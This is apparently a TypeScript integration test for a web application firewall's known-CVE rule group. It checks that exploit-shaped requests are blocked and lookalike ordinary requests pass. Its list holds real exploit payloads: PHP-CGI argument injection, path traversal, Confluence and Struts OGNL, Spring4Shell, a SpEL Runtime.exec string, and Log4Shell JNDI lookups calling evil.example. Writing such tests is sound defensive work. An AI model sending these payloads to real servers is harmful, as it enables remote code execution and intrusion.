import { WAF_GROUPS } from '@rampart/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { document, domain, moduleRefs, upstream, wafModule } from './helpers/documents.js';
import { type Edge, startEdge } from './helpers/edge.js';
import { type Origin, startOrigin } from './helpers/origins.js';
import { blocked, passed, type WafReply, wafSender } from './helpers/waf-send.js';

// The cve group (exploits of known CVEs, rampart.waf_cve and the group's rules) through a real
// nginx: each exploit shape where public exploits put it, beside requests of the same look that
// are ordinary, and the group turned off on its own (a module without it lets the shapes only it
// knows through).

let edge: Edge;
let origin: Origin;
const HOST = 'cve.waf.example';
const OFF = 'nocve.waf.example';
const on = wafSender(() => edge, HOST);
const off = wafSender(() => edge, OFF);

beforeAll(async () => {
  origin = await startOrigin('origin');
  edge = await startEdge();
  await edge.push(
    document(
      'waf-cve-1',
      [
        domain(1, HOST, [upstream(origin.port)], { modules: moduleRefs({ waf: 1 }) }),
        domain(2, OFF, [upstream(origin.port)], { modules: moduleRefs({ waf: 2 }) }),
      ],
      [],
      [],
      { modules: [wafModule(1), wafModule(2, { groups: WAF_GROUPS.filter((g) => g !== 'cve') })] },
    ),
  );
});

afterAll(async () => {
  await edge?.stop();
  await origin?.close();
});

// (a dollar before the braces of a lookup or template, without the linter reading a template literal)
const D = '$';

type Req = { method: string; path: string; headers: Record<string, string>; body?: string };
const get = (path: string, headers: Record<string, string> = {}): Req => ({ method: 'GET', path, headers });
const form = (body: string): Req => ({
  method: 'POST',
  path: '/app',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body,
});

const EXPLOITS: [string, Req][] = [
  ['PHP-CGI -d (CVE-2012-1823)', get('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input')],
  ['PHP-CGI soft hyphen (CVE-2024-4577)', get('/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1')],
  ['PHP-CGI -s', get('/index.php?-s')],
  ['Tomcat ..;/', get('/admin/..;/manager/html')],
  ['.;/ segment', get('/app/.;/admin')],
  ['encoded climb', get('/static/..%2fadmin')],
  ['Citrix (CVE-2019-19781)', get('/vpn/../vpns/cfg/smb.conf')],
  ['Citrix newbm.pl', get('/vpns/portal/scripts/newbm.pl')],
  [
    'Confluence OGNL in the path (CVE-2022-26134)',
    get('/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%23b%29%29%7D/'),
  ],
  [
    'Confluence OGNL queryString (CVE-2021-26084)',
    get('/pages/x.action?queryString=aaa%5Cu0027%2B%23%7B1%7D%2B%5Cu0027'),
  ],
  ['Log4Shell in Accept-Language', get('/', { 'accept-language': `${D}{jndi:ldap://evil.example/a}` })],
  [
    'Log4Shell folded, in Authorization',
    get('/', { authorization: `Bearer ${D}{${D}{lower:j}ndi:ldap://evil.example/a}` }),
  ],
  ['Log4Shell in X-Request-Id', get('/', { 'x-request-id': `${D}{jndi:rmi://evil.example/a}` })],
  [
    'Struts OGNL in the Content-Type (S2-045)',
    get('/upload.action', {
      'content-type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    }),
  ],
  ['Spring4Shell (CVE-2022-22965)', form('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x')],
  ['Spring4Shell in brackets', get('/app?class%5Bmodule%5D%5BclassLoader%5D.URLs%5B0%5D=0')],
  ['a segment of only a path parameter', get('/;/admin/console')],
  ['a named path parameter as a segment', get('/;x=1/manager/html')],
  ['an encoded path parameter as a segment', get('/%3b/admin')],
  // (headers the other groups skip)
  [
    'SpEL type reference in X-Request-Id (CVE-2022-22963)',
    get('/', { 'x-request-id': 'T(java.lang.Runtime).getRuntime().exec("id")' }),
  ],
  [
    'SpEL type reference in Accept-Language',
    get('/', { 'accept-language': 'en, t (org.springframework.util.StreamUtils)' }),
  ],
  [
    'Confluence setup flag (CVE-2023-22515)',
    get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
  ],
  ['Confluence setup flag, encoded', get('/setup/x.action?applicationConfig.setupComplete%3Dfalse')],
];

const ORDINARY: [string, Req][] = [
  ['a query starting with a dash', get('/list?-sort=name')],
  ['arithmetic in a query', get('/calc?-5+3')],
  ['a matrix parameter', get('/files/report.pdf;version=2')],
  ['a percent sign in the path', get('/sale/100%25/discount')],
  ['a VPN help page', get('/vpn/setup-guide')],
  ['a template placeholder in the path', get('/docs/%24%7Bversion%7D/readme')],
  ['an ordinary Accept-Language', get('/', { 'accept-language': 'en-US,en;q=0.9,zh-CN;q=0.8' })],
  ['a template in a header', get('/', { 'x-template': `Hello ${D}{name}` })],
  ['class and module fields', form('class=economy&module=3&loader=fast')],
  ['a session path parameter at the root', get('/;jsessionid=1A2B3C4D')],
  ['a session path parameter after a folder', get('/shop/;jsessionid=1A2B3C4D?item=7')],
  [
    'a browser User-Agent',
    get('/', { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)' }),
  ],
  ['a T( in a header', get('/', { 'x-note': 'Type T(4) for javascript help' })],
  ['application settings in a query', get('/settings?applicationConfig.theme=dark&bootstrap=5')],
  ['the public security.txt (RFC 9116)', get('/.well-known/security.txt')],
];

const failures = async (
  cases: [string, Req][],
  send: (r: Req) => Promise<WafReply>,
  want: (r: WafReply) => boolean,
) => {
  const wrong: string[] = [];
  for (const [what, req] of cases) {
    const r = await send(req);
    if (!want(r)) wrong.push(`${what}: ${r.status}`);
  }
  return wrong;
};

describe('WAF: the cve group', () => {
  it('blocks each exploit shape where its public exploits put it', async () => {
    expect(await failures(EXPLOITS, on.send, blocked)).toEqual([]);
  });

  it('lets ordinary requests of the same look through', async () => {
    expect(await failures(ORDINARY, on.send, passed)).toEqual([]);
  });

  it('turned off, lets through the shapes only it knows', async () => {
    // (the PHP-CGI and "..;/" shapes are also the php and traversal groups' business: blocked either way)
    const only: [string, Req][] = [
      ['Citrix newbm.pl', get('/vpns/portal/scripts/newbm.pl')],
      ['Log4Shell in Accept-Language', get('/', { 'accept-language': `${D}{jndi:ldap://evil.example/a}` })],
    ];
    expect(await failures(only, on.send, blocked)).toEqual([]);
    expect(await failures(only, off.send, passed)).toEqual([]);
  });
});
